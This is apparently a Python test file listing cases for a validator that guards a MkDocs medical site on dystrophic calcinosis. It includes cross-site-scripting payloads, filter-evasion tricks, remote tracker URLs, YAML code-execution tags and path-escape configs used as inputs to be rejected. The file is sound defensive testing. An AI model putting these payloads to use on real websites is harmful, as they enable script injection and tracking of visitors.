    Case("meta-yaml-unclosed-bracket", "metadata", "docs/types/dystrophic-calcinosis.md:3: front matter is not valid YAML: did not find expected ',' or ']'", code="frontmatter.invalid-yaml",
         docs=type_page(front=fm("title: T\nsee_also: [calciphylaxis\nkind: type\n"))),
    # ── Markdown nested so deep that the converter would take minutes or crash ──────────
    Case("markdown-nested-lists", "files", "docs/index.md:29: lists or indented blocks are nested more than 16 levels deep", code="page.too-deep",
         docs=home("\n" + "".join("    " * k + "- item\n" for k in range(300)))),
    Case("markdown-nested-quotes", "files", "docs/index.md:12: block quotes are nested more than 16 levels deep", code="page.too-deep",
         docs=home("\n" + "> " * 300 + "deep\n")),
    Case("markdown-nested-brackets", "files", "docs/index.md:12: square brackets are nested more than 16 levels deep", code="page.too-deep",
         docs=home("\n" + "[" * 20000 + "x" + "]" * 20000 + "\n")),
    # ── HTML written so that a regular expression would miss it ─────────────────────────
    Case("html-slash-separator", "content policy", "docs/index.md:12: a 'style' attribute in <div> is not allowed: it can hide or restyle parts of the site", code="policy.style-attribute",
         docs=home('\n<div/style="position:fixed;inset:0">word</div>\n'), absent=('style="position:fixed;inset:0"',)),
    Case("html-comment-closed-with-bang", "content policy", "docs/index.md:12: inline event handler 'onerror' in <img> is not allowed: it runs code", code="policy.event-handler",
         docs=home("\n<!-- a note --!><img src=x onerror=alert(9) alt=x>\n"), absent=("alert(9)",)),
    Case("html-after-unclosed-fence", "content policy", "docs/index.md:14: raw HTML <script> is not allowed: pages must not run code of their own", code="policy.element",
         docs=home("\n```\n\n<script>alert(10)</script>\n"), absent=("alert(10)",)),
    Case("attr-list-brace-in-value", "content policy", "docs/index.md:12: the page as built contains an attribute 'onclick' on <a>", code="policy.built-page",
         docs=home('\nA [link](types/dystrophic-calcinosis.md){ title="}" onclick="alert(11)" }.\n'), absent=("alert(11)",)),
    Case("html-srcset-remote", "content policy", "docs/index.md:12: the page as built contains an attribute 'srcset' on <img>", code="policy.built-page",
         docs={**home('\n<img src="assets/images/figure.png" srcset="https://tracker.example/p.png 2x" alt="A figure">\n'),
               "assets/images/figure.png": PNG}, absent=("tracker.example",)),
    Case("svg-inline", "content policy", "docs/index.md:12: raw HTML <svg> is not on the allowlist", code="policy.not-allowlisted",
         docs=home('\n<svg><animate values="https://a;javascript:alert(12)"/></svg>\n'), absent=("alert(12)",)),
    Case("attr-list-style", "content policy", "docs/index.md:12: a 'style' attribute in an attribute list is not allowed: it can hide or restyle parts of the site", code="policy.style-attribute",
         docs=home('\nA [link](types/dystrophic-calcinosis.md){ style="display:none" }.\n'), absent=('style="display:none"',)),
    Case("url-http-without-slashes", "content policy", "docs/index.md:12: external link 'http:evil.example' uses http, not https", code="policy.http",
         docs=home("\nSee [a source](http:evil.example).\n")),
    Case("url-ftp", "content policy", "docs/index.md:12: link to a 'ftp:' URL is not allowed", code="policy.url-scheme",
         docs=home("\nSee [a file](ftp://example.org/file.pdf).\n")),
    Case("url-entity-encoded-javascript", "content policy", "docs/index.md:12: link to a 'javascript:' URL is not allowed: it runs code", code="policy.script-url",
         docs=home('\nA <a href="&#106;avascript:alert(13)">link</a>.\n'), absent=("alert(13)",)),
    Case("tel-autolink-vanishes", "content policy", "docs/index.md:12: '<tel:+441234567890>' is not a link in Markdown: it would vanish from the page", code="policy.not-a-link",
         docs=home("\nCall <tel:+441234567890>.\n")),
    Case("file-duplicate-page-id", "files", "docs/types/dystrophic-calcinosis.md:1: duplicate page id 'dystrophic-calcinosis': docs/conditions/dystrophic-calcinosis.md has the same file name", code="page.duplicate-id",
         docs={"conditions/dystrophic-calcinosis.md": FRONT_ABOUT.replace("Home", "Again") + "\n# Again\n\nText.\n"},
         nav=NAV + "  - conditions/dystrophic-calcinosis.md\n"),
    Case("meta-missing-section", "metadata", "docs/types/dystrophic-calcinosis.md:22: missing section 'Epidemiology' { #epidemiology } (every type page has it)", code="shape.missing-section",
         docs=type_page(rest=sections("type", skip=("epidemiology",)))),
    # ── Citations where a footnote number cannot go ─────────────────────────────────────
    Case("cite-in-link-text", "citations", "docs/index.md:12: citation '[@traineau2020treatment]' is inside a link's text, where it cannot be shown", code="citation.misplaced",
         docs=home("\nSee [the review [@traineau2020treatment]](types/dystrophic-calcinosis.md).\n")),
    Case("cite-in-image-alt", "citations", "docs/index.md:12: citation '[@traineau2020treatment]' is inside an image's alt text, where it cannot be shown", code="citation.misplaced",
         docs={**home("\n![A figure [@traineau2020treatment]](assets/images/figure.png)\n"), "assets/images/figure.png": PNG}),
    Case("cite-in-attr-list", "citations", "docs/index.md:12: citation '[@traineau2020treatment]' is inside an attribute list { ... }, where it cannot be shown", code="citation.misplaced",
         docs=home('\nA [link](types/dystrophic-calcinosis.md){ title="[@traineau2020treatment]" }.\n'),
         unexpected=("the page as built",)),
    Case("cite-in-abbreviation", "citations", "docs/index.md:14: citation '[@traineau2020treatment]' is inside an abbreviation's definition, where it cannot be shown", code="citation.misplaced",
         docs=home("\nThe CT scan.\n\n*[CT]: Computed tomography [@traineau2020treatment]\n")),
    # ── Found by a hostile review: each a way round the safety net, now refused ─────────
    Case("html-body-attributes", "content policy", "docs/index.md:12: raw HTML <body> is not allowed: its attributes would land on the site's own page element", code="policy.element",
         docs=home('\n<body/onload="alert(21)">\n'), absent=("alert(21)",)),
    Case("html-theme-id", "content policy", "docs/index.md:12: the page as built contains an id '__config' on <span>", code="policy.built-page",
         docs=home('\nA <span id="__config">{"base": "https://evil.example/"}</span>.\n'),
         absent=('<span id="__config"', "evil.example")),
    Case("html-theme-class", "content policy", "docs/index.md:12: the page as built contains a class of the theme ('md-...') on <span>", code="policy.built-page",
         docs=home('\nA <span class="md-overlay">word</span>.\n'), absent=('<span class="md-overlay"',)),
    Case("svg-doctype-entity", "published files", "docs/assets/images/map.svg:1: the drawing contains '<!DOCTYPE' (a DOCTYPE, entity, CDATA section or processing instruction)", code="files.svg-content",
         docs={"assets/images/map.svg": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "&#60;script&#62;alert(22)&#60;/script&#62;">]>'
               + SVG_HEAD + "&x;</svg>"}, absent=("alert(22)",)),
    Case("svg-stylesheet-instruction", "published files", "docs/assets/images/map.svg:1: the drawing contains '<?' (a DOCTYPE, entity, CDATA section or processing instruction)", code="files.svg-content",
         docs={"assets/images/map.svg": '<?xml-stylesheet type="text/css" href="https://tracker.example/x.css"?>' + SVG_HEAD + "</svg>"},
         absent=("tracker.example",)),
    Case("svg-namespaced-href", "published files", "docs/assets/images/map.svg:1: the drawing contains a link 'https://tracker.example/x.svg#a' on <use> (only '#id' references within the drawing)", code="files.svg-content",
         docs={"assets/images/map.svg": SVG_HEAD.replace("<svg ", '<svg xmlns:l="http://www.w3.org/1999/xlink" ')
               + '<use l:href="https://tracker.example/x.svg#a"/></svg>'}, absent=("tracker.example",)),
    Case("svg-css-escape", "published files", "docs/assets/images/map.svg:1: the drawing contains an escape in 'style' on <rect> (CSS and entity escapes can spell a url(...))", code="files.svg-content",
         docs={"assets/images/map.svg": SVG_HEAD + '<rect style="fill: u\\72l(https://tracker.example/p.svg#g)"/></svg>'},
         absent=("tracker.example",)),
    Case("css-image-set", "published files", "docs/assets/stylesheets/extra.css:1: the stylesheet loads 'https://tracker.example/a.png' from another host", code="files.css-remote",
         docs={"assets/stylesheets/extra.css": 'p { background-image: -webkit-image-set("https://tracker.example/a.png" 1x) }\n'},
         absent=("tracker.example",)),
    Case("css-nesting", "published files", "docs/assets/stylesheets/extra.css:1: the stylesheet nests blocks or brackets more than 64 deep", code="files.css-nesting",
         docs={"assets/stylesheets/extra.css": "p { color: red" + "(" * 3000 + ")" * 3000 + " }\n"}),
    Case("css-backslash-url", "published files", "docs/assets/stylesheets/extra.css:1: the stylesheet loads '/\\tracker.example/e.png' from another host", code="files.css-remote",
         docs={"assets/stylesheets/extra.css": 'p { background: url("/\\\\tracker.example/e.png") }\n'}, absent=("tracker.example",)),
    Case("config-script-with-leading-space", "site config", f"mkdocs.yml:{config_line(2)}: 'extra_javascript' loads ' //tracker.example/x.js' from another host", code="config.remote-asset",
         config='extra_javascript:\n  - " //tracker.example/x.js"\n', absent=("tracker.example",)),
    Case("config-repo-name-markup", "site config", f"mkdocs.yml:{config_line(1)}: 'repo_name' contains HTML markup (<img>)", code="config.markup",
         config="repo_name: '<img src=x onerror=alert(23)>'\n", absent=("<img src=x onerror=alert(23)>",)),
    Case("config-extra-javascript-link-with-a-space", "site config", f"mkdocs.yml:{config_line(2)}: 'extra.homepage' is a 'javascript:' address", code="config.extra-url",
         config="extra:\n  homepage: 'javascript:alert(document .domain)'\n", absent=("alert(document .domain)",)),
    Case("config-repo-url-javascript", "site config", f"mkdocs.yml:{config_line(1)}: 'repo_url' is not an https:// address ('javascript://x.example/%0aalert(24)')", code="config.not-https",
         config="repo_url: 'javascript://x.example/%0aalert(24)'\n", absent=("alert(24)",)),
    Case("config-yaml-tag", "site config", f"mkdocs.yml:{config_line(1)}: mkdocs.yml uses the YAML tag '!ENV'", code="config.yaml-tag",
         config="site_author: !ENV [HOME, nobody]\n"),
    Case("config-python-tag", "site config", f"mkdocs.yml:{config_line(1)}: mkdocs.yml uses the YAML tag 'tag:yaml.org,2002:python/object/apply:os.getcwd'", code="config.yaml-tag",
         config="site_author: !!python/object/apply:os.getcwd []\n"),
    Case("config-docs-outside", "site config", f"mkdocs.yml:{config_line(1)}: 'docs_dir' names a folder outside the repository ('../outside')", code="config.outside-folder",
         config="docs_dir: ../outside\n", absent=(SECRET,)),
    Case("meta-template-key", "metadata", "docs/index.md:6: unknown front-matter key 'template'", code="frontmatter.unknown-key",
         docs={HOME: FRONT_ABOUT.replace("reviewed: 2026-01-01\n", "reviewed: 2026-01-01\ntemplate: redirect.html\nlocation: '\",alert(25),\"'\n") + HOME_BODY},
         absent=("alert(25)",)),
    # overrides/reuse.html prints the rendering `mkdocs serve` kept (hooks/page_reuse.py): chosen by a page, it
    # would print nothing; the key is refused like any other choice of template.
    Case("meta-template-reuse", "metadata", "docs/index.md:6: unknown front-matter key 'template'", code="frontmatter.unknown-key",
         docs={HOME: FRONT_ABOUT.replace("reviewed: 2026-01-01\n", "reviewed: 2026-01-01\ntemplate: reuse.html\n") + HOME_BODY}),
    Case("meta-merge-key", "metadata", "docs/types/dystrophic-calcinosis.md:3: front matter uses a YAML merge key ('<<')", code="frontmatter.yaml-merge-key",
         docs=type_page(front=fm("title: T\n<<: {kind: type}\n"))),
    Case("meta-control-character-in-title", "content policy", "docs/types/dystrophic-calcinosis.md:2: front-matter value 'title' contains the control character U+0000", code="policy.front-matter-control-character",
         docs=type_page(front=front(title='"Dystrophic calcinosis\\0"'))),
    Case("bib-crossref", "bibliography", "bibliography/refs.bib:11: field 'crossref' of 'traineau2020treatment' makes the formatter read another entry into this one", code="bibtex.linking-field",
         bib=ENTRY.replace("  pmid    = {31302187},\n", "  pmid    = {31302187},\n  crossref = {traineau2020treatment},\n")),
    Case("bib-parentheses", "bibliography", "bibliography/refs.bib:1: entry 'traineau2020treatment' is written with parentheses, '@article(...)'", code="bibtex.parentheses",
         bib=ENTRY.replace("@article{traineau2020treatment,", "@article(traineau2020treatment,").rstrip().rstrip("}") + ")\n"),
    Case("snippet-appended-missing", "snippets", f"includes/abbreviations.md:{APPENDED_LINE}: snippet 'missing-file.md' does not exist in includes/, templates/", code="snippets.missing",
         files={"includes/abbreviations.md": ABBREVIATIONS + '\n--8<-- "missing-file.md"\n'}),
    # ── MkDocs' own warnings, with a line and a fix ─────────────────────────────────────
    Case("nav-entry-for-a-missing-page", "site config", f"mkdocs.yml:{nav_line(3)}: nav entry 'types/gone.md' names no page (docs/types/gone.md does not exist)", code="config.nav-missing-page",
         nav=NAV + "  - types/gone.md\n"),
    Case("link-to-a-missing-file", "links", "docs/index.md:12: link to 'assets/leaflet.pdf' points to no file of the site", code="links.missing-file",
         docs=home("\nPrint [the leaflet](assets/leaflet.pdf).\n"),
         check_skip="MkDocs resolves links to files other than pages while it renders them"),
    Case("footnote-never-referenced", "links", "docs/index.md:14: footnote '[^note]' is defined but never referenced", code="footnote.unreferenced",
         docs=home("\nA sentence.\n\n[^note]: A note nobody points to.\n"),
         check_skip="MkDocs finds footnote anchors in the rendered page"),
]
